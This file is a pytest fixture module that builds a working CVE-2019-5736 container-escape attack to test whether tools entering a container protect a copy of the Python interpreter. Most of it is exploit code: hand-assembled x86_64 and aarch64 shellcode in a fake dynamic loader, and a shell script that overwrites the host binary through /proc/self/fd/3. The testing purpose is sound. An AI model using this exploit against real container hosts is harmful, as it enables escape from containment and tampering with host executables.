"""The attack of CVE-2019-5736, and an interpreter to attack: for the tests of every tool that enters a container.

The program that is run inside is a script ``#!/proc/self/exe``; the kernel opens that file while it is still the tool's
own, and runs it with the dynamic loader of the *container*. The loader here opens /proc/self/exe and executes a shell
that keeps the descriptor until nobody runs the file any more.
"""

import hashlib
import os
import pathlib
import platform
import shutil
import struct
import sys
import tempfile

import pytest

BIN = pathlib.Path(sys.executable).parent
LOADER = {"x86_64": "lib64/ld-linux-x86-64.so.2", "aarch64": "lib/ld-linux-aarch64.so.1"}
TEXTS = {"exe": b"/proc/self/exe\0", "busybox": b"/bin/busybox\0", "sh": b"sh\0", "attack": b"/attack\0"}
#: Appending asks for the file as it is: "busy" while somebody runs it. Truncating asks the mount first.
ATTACK = """
busy=0 limit=2
[ ! -e /patient ] || limit=1000  # only there does the runtime end before the container
attack() {
    while answer=$( (echo overwritten >> /proc/self/fd/3) 2>&1 ); [ "$answer" != "${answer%busy}" ]; do
        busy=$((busy + 1)); [ $busy -lt $limit ] || break; sleep 0.05
    done
    echo "append: ${answer:-written}"
    (: > /proc/self/fd/3) 2>&1 || true
}
if [ -e /orphan ]; then
    attack > /orphan 2>&1 &  # it outlives the tool that ran us
elif [ -e /holding ]; then
    echo holding; read -r line  # somebody outside takes the descriptor over
else
    attack
fi
"""


def x86_64():
    """Return open(exe, O_RDONLY); execve(busybox, [sh, attack], NULL); exit(9), as bytes and (lea opcode, text)."""
    lea = b"\x48\x8d"
    yield from ((lea + b"\x3d", "exe"), b"\x31\xf6\xb8\x02\0\0\0\x0f\x05")  # rdi = exe; esi = 0; eax = 2; syscall
    yield from (b"\x31\xd2\x52", (lea + b"\x05", "attack"), b"\x50", (lea + b"\x05", "sh"), b"\x50\x48\x89\xe6")
    yield from ((lea + b"\x3d", "busybox"), b"\xb8\x3b\0\0\0\x0f\x05")  # rsi = rsp is argv; edx = 0 is the environment
    yield b"\xbf\x09\0\0\0\xb8\x3c\0\0\0\x0f\x05"


def aarch64():
    """Return the same; a pair is (register, text) for ``adr``."""
    yield from ((1, "exe"), struct.pack("<4I", 0x92800C60, 0xD2800002, 0xD2800708, 0xD4000001))  # openat(AT_FDCWD, …)
    yield from ((0, "busybox"), (9, "sh"), (10, "attack"))
    yield struct.pack("<5I", 0xA9BE2BE9, 0xF9000BFF, 0x910003E1, 0xD2800002, 0xD2801BA8)  # argv on the stack; execve
    yield struct.pack("<4I", 0xD4000001, 0xD2800120, 0xD2800BA8, 0xD4000001)


def reference(word, offset, position):
    """Return the instruction that loads the address of a text at ``offset``; it stands at ``position``."""
    if isinstance(word, bytes):
        return word + struct.pack("<i", offset - position - len(word) - 4)
    distance = offset - position
    return struct.pack("<I", (distance & 3) << 29 | 0x10000000 | (distance >> 2 & 0x7FFFF) << 5 | word)


def hostile_loader():
    """Return a program for this machine that stands where the interpreter's dynamic loader should be."""
    parts = list({"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]())
    sizes = [len(p) if isinstance(p, bytes) else len(reference(p[0], 0, 0)) for p in parts]
    where, at = {}, sum(sizes)
    for name, text in TEXTS.items():
        where[name], at = at, at + len(text)
    code = b""
    for part in parts:
        code += part if isinstance(part, bytes) else reference(part[0], where[part[1]], len(code))
    code += b"".join(TEXTS.values())
    machine = {"x86_64": 62, "aarch64": 183}[platform.machine()]
    size = 120 + len(code)
    header = struct.pack("<4s4B8x2HI3QI6H", b"\x7fELF", 2, 1, 1, 0, 3, machine, 1, 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + struct.pack("<2I6Q", 1, 5, 0, 0, 0, size, size, 0x10000) + code


@pytest.fixture(scope="session")
def hostile(tmp_path_factory):
    """Return a folder with ``rootfs``: busybox, the loader, the attack, and programs that are ``#!/proc/self/exe``."""
    folder = tmp_path_factory.mktemp("hostile")
    root = folder / "rootfs"
    loader = root / LOADER[platform.machine()]
    for name in ("bin", "proc", "dev", "sys", "etc", loader.parent.relative_to(root)):
        (root / name).mkdir(parents=True, exist_ok=True)
    shutil.copy(shutil.which("busybox"), root / "bin" / "busybox")
    (root / "bin" / "sleep").symlink_to("busybox")
    loader.write_bytes(hostile_loader())
    (root / "attack").write_text(ATTACK)
    (root / "patient").touch()
    for name in ("entry", "bin/sh"):
        (root / name).write_text("#!/proc/self/exe\n")
    for path in (loader, root / "entry", root / "bin" / "sh"):
        path.chmod(0o755)
    return folder


class Interpreter:
    """A copy of our interpreter that nobody else runs, and whether it still is what it was."""

    def __init__(self, path):
        self.path = path
        shutil.copy(os.path.realpath(sys.executable), path)
        self.before = self.digest()

    def digest(self):
        return hashlib.sha256(self.path.read_bytes()).hexdigest()

    def command(self, tool, *arguments, defence=True):
        """Return the command that runs ``tool``; without ``defence``: what the tool says to itself when it has one."""
        off = () if defence else ("-X", "protected")
        return [str(self.path), *off, "-I", "-S", str(BIN / tool), *map(str, arguments)]


@pytest.fixture
def python():
    """Return an interpreter to attack, in a folder that an ordinary user can reach, too (pytest's may be closed)."""
    with tempfile.TemporaryDirectory(prefix="lcm-", dir="/tmp") as folder:
        os.chmod(folder, 0o755)
        yield Interpreter(pathlib.Path(folder, "python"))
